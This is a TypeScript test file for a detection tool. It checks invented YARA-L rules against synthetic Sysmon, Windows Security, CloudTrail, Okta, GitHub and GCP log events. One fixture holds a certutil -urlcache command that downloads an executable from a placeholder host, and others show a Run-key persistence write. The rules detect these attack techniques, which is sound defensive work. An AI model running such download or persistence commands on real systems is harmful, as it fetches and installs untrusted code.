/**
 * YARA-L rules read over raw logs (`src/formats/yaral/readings.ts`): UDM fields read per event id over Sysmon's and
 * the Security log's events as Google's parsers fill them, and over CloudTrail's, Okta's, GitHub's and Google Cloud's
 * JSON. The same results in process,
 * on workers and in DuckDB.
 */
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { yaralAdapter } from '../src/formats/yaral/index.ts';
import { scanSource } from '../src/formats/scan.ts';
import { hitKey, huntThreeWays, writeHuntFixture } from './huntThreeWays.ts';
import type { RuleRecord } from '../src/model/rule.ts';

const rule = (name: string, meta: string, events: string) => `rule ${name} {
  meta:
    author = "detection-wiki fixtures"
    description = "Invented rule for the hunt's UDM readings."
${meta}
  events:
${events}
  condition:
    $e
}
`;

const RULES: Record<string, string> = {
  certutil: rule('certutil_urlcache', '    product = "windows"\n    service = "sysmon"', '    $e.metadata.product_event_type = "1"\n    re.regex($e.target.process.file.full_path, `\\\\certutil\\.exe$`) nocase\n    $e.target.process.command_line = /urlcache/ nocase'),
  office: rule('office_child', '', '    $e.metadata.event_type = "PROCESS_LAUNCH"\n    $e.principal.process.file.full_path = /\\\\winword\\.exe$/ nocase'),
  runkey: rule('run_key_set', '', '    $e.metadata.event_type = "REGISTRY_MODIFICATION"\n    $e.target.registry.registry_key = /\\\\CurrentVersion\\\\Run\\\\/ nocase'),
  user: rule('ann_process', '    product = "windows"\n    service = "sysmon"', '    $e.metadata.product_event_type = "1"\n    $e.principal.user.userid = "ann"\n    $e.principal.administrative_domain = "CORP"'),
  // a user without a domain: the parser sets no domain, which YARA-L reads as "" (UDM's zero value)
  local: rule('local_system', '    product = "windows"\n    service = "sysmon"', '    $e.metadata.product_event_type = "1"\n    $e.principal.user.userid = "SYSTEM"\n    $e.principal.administrative_domain = ""'),
  trail: rule('trail_deleted', '', '    $e.metadata.log_type = "AWS_CLOUDTRAIL"\n    $e.metadata.product_event_type = "DeleteTrail"\n    $e.target.application = "cloudtrail.amazonaws.com"'),
  // a repeated field the parser fills once (security_result) and a match key it computes (the user id: the address cut at @)
  token: `rule okta_token {
  meta:
    author = "detection-wiki fixtures"
  events:
    $e.metadata.log_type = "OKTA"
    $e.metadata.vendor_name = "Okta"
    $e.metadata.product_event_type = "system.api_token.create"
    $e.security_result.action = "ALLOW"
    $e.principal.user.userid = $userid
  match:
    $userid over 1h
  condition:
    $e
}
`,
  repo: rule('repo_destroyed', '', '    $e.metadata.log_type = "GITHUB"\n    $e.metadata.vendor_name = "GITHUB" nocase\n    $e.metadata.product_event_type = "repo.destroy"\n    $e.target.resource.name = /^corp\\//'),
  sakey: rule('sa_key', '', '    $e.metadata.log_type = "GCP_CLOUDAUDIT"\n    $e.metadata.product_event_type = "google.iam.admin.v1.CreateServiceAccountKey"\n    $e.principal.user.email_addresses = "ann@example.com"'),
};

const win = (channel: string, provider: string, id: number, data: Record<string, unknown>) => ({ Event: { System: { EventID: id, Channel: channel, Computer: 'ws1.corp', Provider: { '#attributes': { Name: provider } } }, EventData: data } });
const sysmon = (id: number, data: Record<string, unknown>) => win('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', id, { User: 'CORP\\ann', ...data });

const okta = (result: string) => ({ uuid: `u-${result}`, published: '2026-01-01T00:00:00Z', eventType: 'system.api_token.create', displayMessage: 'Create API token', actor: { alternateId: 'ann@corp.example', displayName: 'Ann' }, outcome: { result } });

const EVENTS = [
  sysmon(1, { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a.exe', ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE' }),
  // the same process in a file creation: Image is the acting process there, not the target
  sysmon(11, { Image: 'C:\\Windows\\System32\\certutil.exe', TargetFilename: 'C:\\x\\a.exe' }),
  win('Security', 'Microsoft-Windows-Security-Auditing', 4688, { NewProcessName: 'C:\\Windows\\System32\\cmd.exe', ParentProcessName: 'C:\\Office\\winword.exe', SubjectUserName: 'ann' }),
  sysmon(13, { Image: 'C:\\x\\a.exe', TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'C:\\x\\a.exe' }),
  // an image load is a process event: not a registry modification
  sysmon(7, { Image: 'C:\\x\\a.exe', ImageLoaded: 'C:\\x\\b.dll' }),
  // a rename: a registry event whose type is not read here
  sysmon(14, { Image: 'C:\\x\\a.exe', TargetObject: 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater' }),
  { eventVersion: '1.08', eventSource: 'cloudtrail.amazonaws.com', eventName: 'DeleteTrail', awsRegion: 'us-east-1', sourceIPAddress: '203.0.113.5', eventTime: '2026-01-01T00:00:00Z', userIdentity: { type: 'IAMUser' } },
  // 7-9: Okta: a success, a failure, and an outcome the reading does not map (CHALLENGE)
  okta('SUCCESS'),
  okta('FAILURE'),
  okta('CHALLENGE'),
  // no actor id: YARA-L leaves an event out of a match whose key is empty
  { ...okta('SUCCESS'), uuid: 'u-empty', actor: { alternateId: '' } },
  { action: 'repo.destroy', actor: 'ann', org: 'corp', repo: 'corp/x', created_at: 1767225600000 },
  { insertId: 'k1', logName: 'projects/p/logs/cloudaudit.googleapis.com%2Factivity', protoPayload: { methodName: 'google.iam.admin.v1.CreateServiceAccountKey', serviceName: 'iam.googleapis.com', authenticationInfo: { principalEmail: 'ann@example.com' } } },
  // 13: a process of a local account (User without a domain)
  sysmon(1, { User: 'SYSTEM', Image: 'C:\\Windows\\System32\\whoami.exe' }),
];

describe('detwiki hunt: YARA-L rules read over raw logs', () => {
  let dir: string;
  let rules: readonly RuleRecord[];
  let file: string;
  before(async () => {
    ({ dir, file } = writeHuntFixture('detwiki-udm-', Object.fromEntries(Object.entries(RULES).map(([name, text]) => [`chronicle/rules/${name}.yaral`, text])), EVENTS));
    rules = (await scanSource(yaralAdapter, path.join(dir, 'chronicle'), { repository: 'test/chronicle' })).rules;
    assert.equal(rules.length, Object.keys(RULES).length);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const WANT = [
    '0 hit yaral/certutil', // product_event_type the id as text; the launched process is Image
    '0 hit yaral/office', // the parent (ParentImage) is the principal process
    '0 hit yaral/user', // User split at its backslash
    '2 hit yaral/office', // 4688: ParentProcessName is the principal process
    '3 hit yaral/runkey',
    // an image load is a process event (a PROCESS_… type, which one not read here), and its principal not read
    '4 may_fire yaral/office (metadata.event_type,principal.process.file.full_path)',
    '5 may_fire yaral/runkey (metadata.event_type,target.registry.registry_key)', // 14: a registry type, which one not read
    '6 hit yaral/trail',
    '7 hit yaral/token', // ALLOW is Okta's SUCCESS; the match key ann (cut at @)
    '9 may_fire yaral/token (security_result.action)', // CHALLENGE: the parser's action is not read here
    '11 hit yaral/repo',
    '12 hit yaral/sakey',
    '13 hit yaral/local', // no domain in User: the domain is "" (with EQL's reading of the cut, null: no hit)
  ].map((w) => w.replace(/ \/\/.*$/, ''));

  it('in process, on two worker threads and in DuckDB: the same hits', async () => {
    const { mem, par, duck, readAs } = await huntThreeWays(rules, file, hitKey);
    assert.match(readAs.get('0 yaral/certutil') ?? '', /WINDOWS_SYSMON parser/);
    assert.deepEqual(mem, [...WANT].sort(), mem.join('\n'));
    assert.match(readAs.get('11 yaral/repo') ?? '', /GITHUB parser/);
    assert.deepEqual(par, mem);
    assert.deepEqual(duck, mem);
  });
});
